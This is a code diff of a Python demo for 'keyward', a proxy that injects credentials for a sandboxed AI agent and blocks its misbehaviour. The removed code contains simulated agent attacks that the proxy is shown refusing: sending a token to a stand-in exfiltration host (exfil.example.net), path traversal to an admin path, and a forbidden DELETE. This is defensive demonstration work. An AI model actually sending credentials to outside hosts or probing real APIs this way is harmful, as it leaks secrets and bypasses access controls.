@@ -1,7 +1,9 @@
 #!/usr/bin/env python3
-"""keyward demo: an "agent" (curl) uses an API through keyward while holding
-only a placeholder; keyward attaches the real credential outside, and stops
-the agent when it misbehaves. Everything runs on loopback.
+"""keyward demo: an example agent (examples/agent.sh) runs inside `keyward run`.
+It holds only a placeholder, calls an API through keyward (which attaches the
+real credential outside the sandbox), and is stopped when it misbehaves: a
+method the policy does not allow, its token sent to another host, a way
+around the proxy, the host's secrets. Everything runs on loopback.
 
 Usage: demo.py --keyward PATH/TO/keyward
 """
@@ -11,7 +13,6 @@ import http.server
 import json
 import os
 import shutil
-import signal
 import ssl
 import subprocess
 import sys
@@ -78,7 +79,6 @@ def main():
     args = ap.parse_args()
     kw = os.path.abspath(args.keyward)
     tmp = tempfile.mkdtemp(prefix="keyward-demo-")
-    proxy = None
     try:
         make_certs(tmp)
         srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Api)
@@ -88,13 +88,16 @@ def main():
         api_port = srv.server_address[1]
         threading.Thread(target=srv.serve_forever, daemon=True).start()
 
+        workspace = os.path.join(tmp, "project")
+        os.mkdir(workspace)
+        shutil.copy(os.path.join(os.path.dirname(os.path.abspath(__file__)), "agent.sh"), workspace)
         policy = os.path.join(tmp, "policy.yaml")
         with open(policy, "w") as f:
             f.write(f"""version: 1
 credentials:
   github:
-    from: env:DEMO_API_TOKEN        # keyward's own environment, never the agent's
-    env: GITHUB_TOKEN
+    from: env:DEMO_API_TOKEN        # keyward's own environment, never the sandbox's
+    env: GITHUB_TOKEN               # the sandbox gets the placeholder under this name
     placeholder: {PLACEHOLDER}
 routes:
   - host: api.demo.test
@@ -105,89 +108,51 @@ routes:
     inject: bearer
     upstream_ca: {tmp}/ca.pem       # the demo API's private CA
     allow_private: true             # it runs on loopback
+sandbox:
+  limits: {{processes: 256, tmp_size: 64MiB}}
 """)
         step("The policy: one API, GET only, one path prefix, one credential")
         print(open(policy).read().rstrip())
-        env = dict(os.environ, KEYWARD_HOME=os.path.join(tmp, "state"), DEMO_API_TOKEN=REAL_TOKEN)
+        state = os.path.join(tmp, "state")
+        env = dict(os.environ, KEYWARD_HOME=state, DEMO_API_TOKEN=REAL_TOKEN)
         chk = run([kw, "policy", "check", policy], env=env)
         print(DIM + chk.stdout.rstrip() + RESET)
 
-        step("Start keyward proxy (the real token is in keyward's environment only)")
-        audit = os.path.join(tmp, "audit.jsonl")
-        log = open(os.path.join(tmp, "keyward.log"), "w+")
-        proxy = subprocess.Popen([kw, "proxy", "--policy", policy, "--listen", "127.0.0.1:0", "--audit", audit,
-                                  "--resolve", "api.demo.test:127.0.0.1"], env=env, stderr=log,
-                                 stdin=subprocess.DEVNULL)
-        port = None
-        for _ in range(200):
-            log.seek(0)
-            for line in log.read().splitlines():
-                if "listening on 127.0.0.1:" in line:
-                    port = int(line.rsplit(":", 1)[1])
-            if port or proxy.poll() is not None:
-                break
-            time.sleep(0.05)
-        if not port:
-            log.seek(0)
-            sys.exit("keyward did not start:\n" + log.read())
-        ca = os.path.join(tmp, "keyward-ca.pem")
-        with open(ca, "w") as f:
-            f.write(run([kw, "ca", "export"], env=env, check=True).stdout)
-        print(f"listening on 127.0.0.1:{port}; the agent trusts keyward's CA ({ca})")
-
-        # The agent's whole world: a placeholder and a proxy.
-        agent_env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "GITHUB_TOKEN": PLACEHOLDER,
-                     "HTTPS_PROXY": f"http://127.0.0.1:{port}", "CURL_CA_BUNDLE": ca}
-        step("The agent's environment")
-        for k, v in agent_env.items():
-            if k != "PATH":
-                print(f"  {k}={v}")
-
-        def agent(title, *curl_args):
-            print(f"\n{BOLD}agent:{RESET} {title}")
-            r = run(["curl", "-sS", "--max-time", "10", "-w", "\n%{http_code}", *curl_args], env=agent_env)
-            body, _, code = r.stdout.rpartition("\n")
-            colour = GREEN if code == "200" else RED
-            print(f"  {colour}HTTP {code or '---'}{RESET}  {body.strip() or r.stderr.strip()}")
-            return code
-
+        audit = os.path.join(state, "audit.jsonl")
+        os.makedirs(state, mode=0o700, exist_ok=True)
         base = f"https://api.demo.test:{api_port}"
-        step("Allowed: the agent calls the API with its placeholder")
-        c1 = agent("GET /v1/repos/acme with Authorization: Bearer $GITHUB_TOKEN",
-                   "-H", f"Authorization: Bearer {PLACEHOLDER}", f"{base}/v1/repos/acme")
-        print(f"  the API saw: {Api.seen[-1] if Api.seen else 'nothing'}")
-
-        step("Refused: the agent misbehaves")
-        c2 = agent("DELETE /v1/repos/acme (method not allowed)", "-X", "DELETE", f"{base}/v1/repos/acme")
-        c3 = agent("GET /v1/admin/users (path not allowed)", f"{base}/v1/admin/users")
-        c4 = agent("send its token to an unlisted host", "-H", f"Authorization: Bearer {PLACEHOLDER}",
-                   f"https://exfil.example.net/collect?t={PLACEHOLDER}")
-        c5 = agent("traversal out of the allowed prefix", "--path-as-is", f"{base}/v1/repos/../admin/users")
+        cmd = [kw, "run", "--policy", policy, "--workspace", workspace, "--audit", audit,
+               "--resolve", "api.demo.test:127.0.0.1", "--", "sh", "./agent.sh", base, state]
+        step("keyward run -- sh ./agent.sh   (the real token is in keyward's environment only)")
+        print(DIM + " ".join(cmd[1:]) + RESET)
+        r = subprocess.run(cmd, env=env, capture_output=True, text=True, timeout=120)
+        print(r.stdout.rstrip())
+        if r.stderr.strip():
+            print(DIM + r.stderr.rstrip() + RESET)
 
         step("What the API received: only the allowed request, with the real token")
         for s in Api.seen:
             print(f"  {s}")
 
-        proxy.send_signal(signal.SIGTERM)
-        proxy.wait(timeout=30)
         step("The audit log (keyward audit show), hash-chained")
         print(run([kw, "audit", "show", audit]).stdout.rstrip())
         step("keyward audit verify")
         v = run([kw, "audit", "verify", audit])
-        print(v.stdout.rstrip())
+        print(v.stdout.rstrip() or v.stderr.rstrip())
 
-        log.seek(0)
-        outputs = log.read() + open(audit).read()
+        outputs = r.stdout + r.stderr + open(audit).read()
         leaked = REAL_TOKEN in outputs
-        ok = (c1 == "200" and c2 == "403" and c3 == "403" and c5 == "403" and c4 in ("403", "000")
-              and len(Api.seen) == 1 and v.returncode == 0 and not leaked)
+        codes = [l.split()[1] for l in r.stdout.splitlines() if l.strip().startswith("HTTP ")]
+        ok = (r.returncode == 0 and codes[:2] == ["200", "403"] and codes[2] in ("403", "000")
+              and len(Api.seen) == 1 and Api.seen[0][2] == "real token" and v.returncode == 0
+              and "visible!" not in r.stdout and "connected!" not in r.stdout
+              and "resolved!" not in r.stdout and not leaked)
         step("Result")
-        print(f"  real token in keyward's log or audit log: {'YES' if leaked else 'no'}")
+        print(f"  real token in the agent's output, keyward's messages or the audit log: "
+              f"{'YES' if leaked else 'no'}")
         print(f"  {GREEN + 'demo passed' if ok else RED + 'demo FAILED'}{RESET}")
         return 0 if ok else 1
     finally:
-        if proxy and proxy.poll() is None:
-            proxy.kill()
         shutil.rmtree(tmp, ignore_errors=True)
 
 
